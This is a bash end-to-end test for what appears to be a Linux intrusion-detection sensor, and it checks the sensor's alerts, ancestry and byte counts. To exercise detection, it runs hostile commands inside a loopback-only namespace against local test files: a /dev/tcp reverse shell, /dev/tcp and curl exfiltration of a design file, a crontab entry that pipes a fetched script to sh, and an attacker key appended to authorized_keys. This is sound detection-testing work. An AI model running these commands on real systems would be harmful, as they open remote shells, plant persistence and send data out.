@@ -1,0 +1,197 @@
+#!/bin/bash
+# stoat watch, end to end: start the live sensor with stoat's rules and a
+# crown-jewel file, run real living-off-the-land commands inside a network
+# namespace made here (loopback only, no route out) against files made here,
+# stop it, and check the exact alerts, their ancestry, the incident and the
+# byte counts. Then the same with the proc-connector fallback for what it can
+# see. Nothing touches the host's real files: crontab and authorized_keys are
+# test copies; every listener is on 127.0.0.1 inside the namespace.
+# Last line: "watch: P passed, F failed".
+set -u
+cd "$(dirname "$0")/../.."
+STOAT=${STOAT:-build/stoat}
+PASS=0
+FAIL=0
+ok() { echo "ok   $*"; PASS=$((PASS + 1)); }
+bad() { echo "FAIL $*"; FAIL=$((FAIL + 1)); }
+finish() { echo "watch: $PASS passed, $FAIL failed"; [ "$FAIL" -eq 0 ]; exit $?; }
+
+if [ "$(id -u)" -ne 0 ]; then
+    echo "skip: stoat watch needs root (eBPF, proc connector, network namespaces)"
+    finish
+fi
+command -v python3 >/dev/null || { bad "python3 missing (scripts/install-deps.sh installs it)"; finish; }
+
+T=$(mktemp -d /tmp/stoat-watch.XXXXXX)
+NS=stoat-watch-$$
+WPID=
+cleanup() {
+    [ -n "$WPID" ] && kill "$WPID" 2>/dev/null
+    ip netns del "$NS" 2>/dev/null
+    [ -n "${STOAT_KEEP:-}" ] || rm -rf "$T"
+}
+trap cleanup EXIT
+ip netns add "$NS" || { bad "ip netns add"; finish; }
+ip netns exec "$NS" ip link set lo up
+N() { ip netns exec "$NS" "$@"; }
+
+# fixtures: the jewels, test copies of persistence files
+mkdir -p "$T/design/tapeout" "$T/home/eng/.ssh" "$T/spool"
+head -c 65536 /dev/urandom > "$T/design/tapeout/n2-top.gds"
+echo "N2 process spec rev C" > "$T/design/spec.txt"
+: > "$T/home/eng/.ssh/authorized_keys"
+: > "$T/spool/crontab"
+cat > "$T/jewels.yml" <<EOF
+paths: ['$T/design/*']
+extensions: [gds]
+transfer_window: 1h
+EOF
+
+run_scenario() {   # run_scenario OUTDIR [watch options...]
+    local out=$1
+    shift
+    mkdir -p "$out"
+    "$STOAT" watch --jewels "$T/jewels.yml" --watch-path "$T/home" --watch-path "$T/spool" \
+        --format jsonl -o "$out/alerts.jsonl" --record "$out/record.jsonl" "$@" 2>"$out/stderr" &
+    WPID=$!
+    # ready when it has said its mode
+    for _ in $(seq 1 100); do
+        grep -q "mode:" "$out/stderr" 2>/dev/null && break
+        sleep 0.1
+    done
+    grep -q "mode:" "$out/stderr" || { bad "stoat watch $* did not start: $(cat "$out/stderr")"; return 1; }
+
+    # a listener that takes uploads and counts the bytes
+    N python3 -c '
+import socket,sys
+s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1",9000)); s.listen(8)
+for _ in range(2):
+    c,_=s.accept(); n=0
+    while True:
+        d=c.recv(65536)
+        if not d: break
+        n+=len(d)
+    c.close(); print(n, flush=True)
+' > "$out/received" &
+    local LPID=$!
+    # and one that plays the attacker's end of a reverse shell
+    N python3 -c '
+import socket
+s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("127.0.0.1",4444)); s.listen(1)
+c,_=s.accept(); c.sendall(b"id\nexit\n"); c.settimeout(3)
+try:
+    while c.recv(4096): pass
+except Exception: pass
+' &
+    local RPID=$!
+    sleep 0.5
+
+    # discovery burst
+    N bash -c 'id; uname -a; cat /etc/passwd >/dev/null; ss -tunap >/dev/null; ps aux >/dev/null; whoami' >/dev/null 2>&1
+    # rules reloaded while events flow (the events after it must still alert)
+    kill -HUP "$WPID"
+    for _ in $(seq 1 100); do
+        grep -q "rules reloaded" "$out/stderr" 2>/dev/null && break
+        sleep 0.1
+    done
+    # staging of the jewels
+    N bash -c "cd '$T' && tar czf /tmp/.stage-$$.tgz design && base64 -w0 design/tapeout/n2-top.gds > '$T/b64.txt'"
+    # exfiltration: the layout, raw over TCP (exact byte count), then a curl upload
+    N bash -c "cat '$T/design/tapeout/n2-top.gds' > /dev/tcp/127.0.0.1/9000"
+    N curl -s -m 5 -T "$T/design/spec.txt" http://127.0.0.1:9000/up >/dev/null 2>&1
+    # a reverse shell
+    N bash -c 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1' >/dev/null 2>&1
+    # persistence on test copies
+    N bash -c "echo '* * * * * curl -s http://127.0.0.1:9000/x | sh' >> '$T/spool/crontab'"
+    N bash -c "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHacker attacker@x' >> '$T/home/eng/.ssh/authorized_keys'"
+    rm -f "/tmp/.stage-$$.tgz"
+    wait "$LPID" "$RPID" 2>/dev/null
+    sleep 1
+    kill -TERM "$WPID"
+    wait "$WPID"
+    local rc=$?
+    WPID=
+    [ "$rc" -eq 0 ] && ok "stoat watch $* stopped cleanly on SIGTERM" || bad "stoat watch $* exited $rc"
+    grep -q "rules reloaded" "$out/stderr" && ok "stoat watch $* reloaded its rules on SIGHUP" ||
+        bad "stoat watch $* did not reload on SIGHUP: $(cat "$out/stderr")"
+    return 0
+}
+
+check() {   # check OUTDIR MODE: python assertions, one line each
+    python3 - "$1" "$2" "$T" <<'PY'
+import json, sys, os
+out, mode, T = sys.argv[1], sys.argv[2], sys.argv[3]
+alerts = [json.loads(l) for l in open(os.path.join(out, "alerts.jsonl"))]
+record = [json.loads(l) for l in open(os.path.join(out, "record.jsonl"))]
+received = [int(x) for x in open(os.path.join(out, "received")).read().split()]
+res = []
+def check(name, cond, detail=""):
+    res.append(("ok  " if cond else "FAIL") + " " + mode + ": " + name + ("" if cond else "  -- " + detail))
+titles = {}
+for a in alerts:
+    if a["kind"] == "alert":
+        titles.setdefault(a["rule"]["title"], []).append(a)
+def alert(t):
+    return titles.get(t, [])
+size = os.path.getsize(os.path.join(T, "design/tapeout/n2-top.gds"))
+cmds = [r.get("CommandLine", "") for r in record if r.get("EventID") == "1"]
+if mode == "ebpf":
+    check("every exec recorded with its argv (tar of the jewels)",
+          any("tar czf" in c and "design" in c for c in cmds), str(len(cmds)) + " execs")
+    check("the discovery burst recorded",
+          all(any(c.startswith(x) for c in cmds) for x in ("id", "uname -a", "whoami")))
+else:
+    # the proc connector reports every exec, but a process that exits before
+    # /proc is read loses its argv (the documented race): those are marked
+    check("every exec reported (the shells of the scenario at least)", len(cmds) >= 10, str(len(cmds)))
+if mode == "ebpf":
+    closes = [r for r in record if r.get("EventID") == "3" and r.get("BytesSent") and r.get("DestinationPort") == "9000"]
+    check("bytes sent at close equal the file sent over /dev/tcp (%d)" % size,
+          any(int(r["BytesSent"]) == size for r in closes), str([r.get("BytesSent") for r in closes]))
+    check("the listener received the same count", size in received, str(received))
+    opens = [r for r in record if r.get("EventID") == "11" and r.get("TargetFilename", "").endswith("n2-top.gds")]
+    check("opens of the watched layout recorded", len(opens) > 0)
+    rs = alert("Interactive Shell Bound To A /dev/tcp Socket") + alert("Reverse Shell Over /dev/tcp From bash")
+    check("reverse shell alerted", len(rs) > 0, str(sorted(titles)))
+    ex = alert("Data Sent Out After Crown-Jewel Access")
+    check("data sent out after crown-jewel access (critical)", any(a["level"] == "critical" for a in ex),
+          str(sorted(titles)))
+    check("the exfiltration alert carries its process tree",
+          any(len(a.get("ancestry", [])) >= 2 for a in ex), str([a.get("ancestry") for a in ex]))
+arch = alert("Crown Jewels Archived Or Encoded")
+if mode == "ebpf":
+    check("base64 of a layout alerted as jewels encoded",
+          any(a["event"].get("Image", "").endswith("/base64") for a in arch), str(sorted(titles)))
+    check("the encoder alert's ancestry names bash",
+          any(any(p.get("image", "").endswith("/bash") for p in a.get("ancestry", [])) for a in arch),
+          str([a.get("ancestry") for a in arch]))
+# tar named the folder relatively (cd, then "tar czf x design"): its opens of
+# the watched files are what give it away
+opened = alert("Crown Jewel File Opened By An Unusual Process")
+check("tar reading the jewels alerted from its file opens",
+      any(a["event"].get("Image", "").endswith("/tar") for a in opened), str(sorted(titles)))
+check("authorized_keys written alerted", any("authorized_keys" in t or "Authorized" in t for t in titles),
+      str(sorted(titles)))
+if mode == "ebpf":
+    check("crontab written alerted", any("ron" in t for t in titles), str(sorted(titles)))
+else:
+    # the alert comes from the command line, which the fallback may miss (race);
+    # the write itself it always sees
+    check("the write to the crontab copy recorded",
+          any(r.get("EventID") == "11" and r.get("TargetFilename", "").endswith("/spool/crontab") for r in record))
+incs = [a for a in alerts if a["kind"] == "incident"]
+check("one incident for the host, high or critical", len(incs) >= 1 and incs[0]["level"] in ("high", "critical"),
+      str([(i["title"], i["score"]) for i in incs]))
+print("\n".join(res))
+PY
+}
+
+run_scenario "$T/ebpf" && check "$T/ebpf" ebpf > "$T/ebpf.res" && cat "$T/ebpf.res"
+run_scenario "$T/fallback" --fallback && check "$T/fallback" fallback > "$T/fallback.res" && cat "$T/fallback.res"
+for f in "$T/ebpf.res" "$T/fallback.res"; do
+    [ -f "$f" ] || continue
+    PASS=$((PASS + $(grep -c '^ok ' "$f")))
+    FAIL=$((FAIL + $(grep -c '^FAIL' "$f")))
+done
+grep -h "lost" "$T"/*/stderr 2>/dev/null | sed 's/^/    /'
+finish
